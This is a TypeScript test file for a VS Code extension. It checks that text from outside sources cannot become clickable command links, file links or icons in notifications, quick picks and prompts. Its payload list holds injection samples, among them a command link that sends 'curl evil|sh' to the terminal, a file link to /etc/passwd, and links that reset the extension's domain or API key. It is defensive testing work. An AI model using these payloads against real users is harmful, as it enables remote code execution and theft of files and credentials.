// neutralize(): text others control can never become a command link or an icon where VS Code renders them
// (notifications, modals, progress, input prompts, quick picks, status bar). See docs/SECURITY.md.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { MAX_SHOWN, neutralize, visibleText } from '../../../src/text/untrusted';
import { toQuickPickItems } from '../../../src/ui/quickPickItems';
import { tsFiles } from '../support/sourceFiles';

/** How VS Code's notifications find links (vs/base/common/linkedText.ts, parseLinkedText). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** How labels, status bar text and descriptions find icons (vs/base/common/iconLabels.ts). */
const VSCODE_ICON = /\$\([a-z0-9-]+(?:~[a-z0-9-]+)?\)/gi;

export const PAYLOADS = [
  '[Open](command:bolddesk.setDomain?%22evil.example%22)',
  '[Open](command:workbench.action.terminal.sendSequence?{"text":"curl evil|sh\\n"})',
  'Printer [x](https://evil.example "title") on fire',
  '[a](file:///etc/passwd)',
  '[a]\u202e(command:x)',
  '[a]\u0000(command:x)',
  '$(alert) urgent $(loading~spin)',
  '[$(key) Set API Key](command:bolddesk.setApiKey?["k"])',
];

describe('neutralize (untrusted text for VS Code UI)', () => {
  it('leaves no link VS Code would parse, and no icon', () => {
    for (const p of PAYLOADS) {
      const out = neutralize(`Ticket #12 "${p}" was assigned to you.`);
      assert.equal(out.match(VSCODE_LINK), null, `link survived: ${JSON.stringify(out)}`);
      assert.equal(out.match(VSCODE_ICON), null, `icon survived: ${JSON.stringify(out)}`);
      assert.ok(!out.includes('](') && !out.includes('$('), JSON.stringify(out));
    }
  });

  it('keeps the text a person reads (only invisible breaks are added)', () => {
    assert.equal(visibleText(neutralize('[Open](command:x)')), '[Open](command:x)');
    assert.equal(visibleText(neutralize('$(alert) hi')), '$(alert) hi');
    assert.equal(neutralize('Printer on fire (again) [urgent]'), 'Printer on fire (again) [urgent]');
    assert.equal(neutralize('Zoë ✓ 日本 🙂'), 'Zoë ✓ 日本 🙂');
  });

  it('removes control and bidi characters and turns line breaks into spaces', () => {
    assert.equal(neutralize('a\r\nb\nc\td\u0007e\u202ef\u2066g'), 'a b c defg');
  });

  it('caps the length (a megabyte of header or setting is not shown whole), without splitting a surrogate pair', () => {
    const out = neutralize('x'.repeat(5_000_000));
    assert.equal(out.length, MAX_SHOWN);
    assert.ok(out.endsWith('…'));
    const emoji = neutralize('a' + '🙂'.repeat(10), 4);
    assert.ok(!/[\ud800-\udbff]…$/.test(emoji), JSON.stringify(emoji));
  });

  it('turns anything into text (undefined, numbers, errors)', () => {
    assert.equal(neutralize(undefined), '');
    assert.equal(neutralize(12), '12');
    assert.equal(neutralize(new Error('[x](command:y)')).match(VSCODE_LINK), null);
  });

  it('quick-pick items: only the item\'s own icon is an icon; label, description and detail are plain', () => {
    const [item] = toQuickPickItems([
      { icon: 'check', label: '$(alert) [x](command:y)', description: '$(key) [d](command:z)', detail: '[e](https://a.example)', value: 1 },
    ]);
    assert.equal(item.label.match(VSCODE_ICON)?.join(), '$(check)');
    for (const text of [item.label, item.description ?? '', item.detail ?? '']) assert.equal(text.match(VSCODE_LINK), null, text);
    assert.equal(item.description?.match(VSCODE_ICON), null);
  });
});

describe('every message reaches the window through Prompts (the door that neutralizes)', () => {
  const src = path.resolve(__dirname, '../../../../src');
  it('no file but src/ui/vscodePrompts.ts calls window.show*Message, withProgress or showQuickPick/showInputBox', () => {
    const offenders = tsFiles(src)
      .filter((f) => !f.endsWith(path.join('ui', 'vscodePrompts.ts')))
      .filter((f) => /window\s*\.\s*(show(Information|Warning|Error)Message|withProgress|showQuickPick|showInputBox)\b/.test(fs.readFileSync(f, 'utf8')));
    assert.deepEqual(offenders.map((f) => path.relative(src, f)), []);
  });
});
